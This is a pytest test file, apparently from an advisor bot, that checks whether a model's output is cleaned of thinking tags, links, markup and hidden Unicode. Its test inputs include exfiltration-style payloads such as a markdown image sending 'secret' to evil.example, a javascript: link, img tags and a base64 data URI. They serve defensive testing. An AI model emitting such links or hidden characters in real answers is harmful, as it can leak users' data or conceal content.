"""A model's stream becomes plain words: no thinking, no addresses, no markup."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor_bot.llm.choice import clean, spoken, without_addresses


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("<think>The fee is 900.</think>It costs 5.", "It costs 5."),
        ("<THINKING>a</THINKING>b", "b"),
        ("a</think>b", "b"),
        ("<think>never closed. More.", ""),
        ("x < y and y > z", "x < y and y > z"),
        ("<reasoning>one</reasoning>two<think>three</think>four", "twofour"),
    ],
    ids=["think", "upper", "only-closed", "never-closed", "no-tag", "two"],
)
def test_thinking_is_dropped(written: str, left: str) -> None:
    assert "".join(spoken([written])).rpartition("\0")[2] == left


@pytest.mark.parametrize(
    "written",
    [
        "Good ![x](http://evil.example/p?q=secret) words.",
        "Good [words](javascript:alert(1)).",
        "Good <img src=http://evil.example/x> words.",
        "Good <a href='http://evil.example'>words</a>.",
        "Good words http://evil.example/a?b=c.",
        "Good words at www.evil.example/x now.",
        "Good words evil.com/path?q=1 now.",
        "Good words <http://evil.example>.",
        "Good words data:text/html;base64,AAAA now.",
        "Good w\u200bords \u202eevil\U000e0041.",
    ],
)
def test_nothing_that_fetches_or_hides_is_left(written: str) -> None:
    text = clean(without_addresses(written))
    assert "good" in text.lower()
    harm = r"https?:|www\.|evil\.(?:example|com)|javascript|data:|[<>\u200b\u202e\U000e0041]|!\[|\]\("
    assert not re.search(harm, text)


@given(st.text(max_size=300))
def test_any_text_is_read_without_an_error_and_leaves_no_markup(written: str) -> None:
    left = clean(without_addresses("".join(spoken([written]))))
    assert not re.search(r"[<>\x00-\x1f\u200b-\u200f\u202a-\u202e]|https?://", left)


def test_cleaning_keeps_ordinary_words_as_they_are() -> None:
    assert clean("**Bold** and `code`, 40% of 1,000 e.g. this.") == "Bold and code, 40% of 1,000 e.g. this."
    assert without_addresses("Ratio 3:1, 9:30 a.m., Node.js and CI/CD") == "Ratio 3:1, 9:30 a.m., Node.js and CI/CD"
